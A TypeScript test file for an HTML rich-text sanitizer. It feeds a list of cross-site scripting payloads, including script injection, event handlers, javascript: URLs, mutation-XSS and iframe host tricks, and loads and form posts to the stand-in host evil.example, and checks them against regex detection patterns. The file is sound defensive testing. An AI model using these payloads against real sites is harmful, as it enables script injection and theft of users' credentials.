import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';

import { mergeBlocks } from '#domain/rich-text/merge-blocks.ts';
import { richText } from '#domain/rich-text/rich-text.fixture.ts';

import { sanitizeRichText } from './sanitize-rich-text.ts';

const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/img/original/1-abc.png" onload="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/embed/abcdefgh"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/abcdefgh"></iframe>',
  '<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>',
  '<iframe src="//www.youtube.com@evil.example/embed/abcdefgh"></iframe>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1));text-align:center">x</p>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<p onclick="alert(1)" id="x" class="vt-header" data-x="1">x</p>',
  '<img src="http://evil.example/pixel.png">',
  '<img src="/img/../api/users">',
  '<img srcset="https://evil.example/x 1x" src="/img/original/1-a.png">',
  '<<script>alert(1)//<</script>',
  '<a href="https://ok.example" style="position:fixed;inset:0" onmouseover=alert(1)>x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
];

const dangerous = [
  /<(?!\/?(?:h[234]|p|br|hr|blockquote|pre|code|ul|ol|li|a|strong|b|em|i|u|s|del|sub|sup|small|mark|figure|figcaption|img|iframe|table|caption|colgroup|col|thead|tbody|tfoot|tr|th|td)\b)/i,
  /<[^>]*\son\w+\s*=/i,
  /<[^>]*(?:href|src)\s*=\s*"?\s*(?:javascript|data|vbscript|\/\/|\/\\)/i,
  /<[^>]*\s(?:class|id|srcset|srcdoc|data-\w+)\s*=/i,
  /<[^>]*style="(?!text-align:(?:left|right|center|justify|start|end)")/i,
  /<[^>]*evil\.example/i,
];

describe('a payload leaves nothing that a browser would run or load', () => {
  test.each(payloads)('%s [R160]', (payload) => {
    const clean = sanitizeRichText(`<p>before</p>${payload}<p>after</p>`);
    for (const pattern of dangerous) expect(clean).not.toMatch(pattern);
    expect(clean).toContain('before');
    // Cleaning is stable: what is clean stays as it is.
    expect(sanitizeRichText(clean)).toBe(clean);
  });
});

describe('what editors write stays', () => {
  test.each([
    '<h2>Title</h2><h3>Part</h3><p>A <strong>b</strong> <em>c</em> <u>d</u> <s>e</s></p>',
    '<p style="text-align:center">x</p>',
    '<ul><li>one</li></ul><ol start="3"><li>three</li></ol>',
    '<blockquote>q</blockquote><pre><code>x</code></pre><hr />',
    '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2" rowspan="3">b</td></tr></tbody></table>',
    '<a href="/about">x</a><a href="#part">y</a><a href="mailto:a@b.co">m</a><a href="tel:+7800">t</a>',
  ])('%s', (html) => {
    expect(sanitizeRichText(html)).toBe(html);
  });

  test('a first-level heading becomes a second-level one: the page has its own', () => {
    expect(sanitizeRichText('<h1>x</h1>')).toBe('<h2>x</h2>');
  });

  test('a link to a new tab does not hand over the window', () => {
    expect(sanitizeRichText('<a href="https://a.example" target="_blank">x</a>')).toContain(
      'target="_blank" rel="noopener noreferrer"',
    );
    expect(sanitizeRichText('<a href="/a" target="_top">x</a>')).toBe('<a href="/a">x</a>');
  });

  test('a picture of the library stays and loads lazily', () => {
    expect(sanitizeRichText('<img src="/img/original/1-ab.png" alt="A" width="10">')).toBe(
      '<img width="10" src="/img/original/1-ab.png" alt="A" loading="lazy" />',
    );
  });

  test.each([
    [
      'https://www.youtube.com/embed/dQw4w9WgXcQ?start=10&autoplay=1',
      'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?start=10',
    ],
    ['//www.youtube-nocookie.com/embed/dQw4w9WgXcQ', 'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ'],
    ['https://player.vimeo.com/video/123456?autoplay=1', 'https://player.vimeo.com/video/123456?dnt=1'],
  ])('the player %s is sandboxed and lazy', (src, expected) => {
    const clean = sanitizeRichText(`<iframe src="${src}" onload="x()"></iframe>`);
    expect(clean).toContain(`src="${expected}"`);
    expect(clean).toContain('sandbox="allow-scripts');
    expect(clean).toContain('loading="lazy"');
    expect(clean).not.toContain('onload');
  });
});

test('what two people wrote in one clean text is clean once it is merged, and shown as it was merged', () => {
  let merged = 0;
  fc.assert(
    fc.property(richText, richText, richText, (was, one, other) => {
      const texts = [was, one, other].map(sanitizeRichText);
      const text = mergeBlocks(texts[0] ?? '', texts[1] ?? '', texts[2] ?? '');
      if (text === null) return;
      merged++;
      expect(sanitizeRichText(text)).toBe(text);
    }),
    { numRuns: 1000 },
  );
  expect(merged).toBeGreaterThan(15);
});
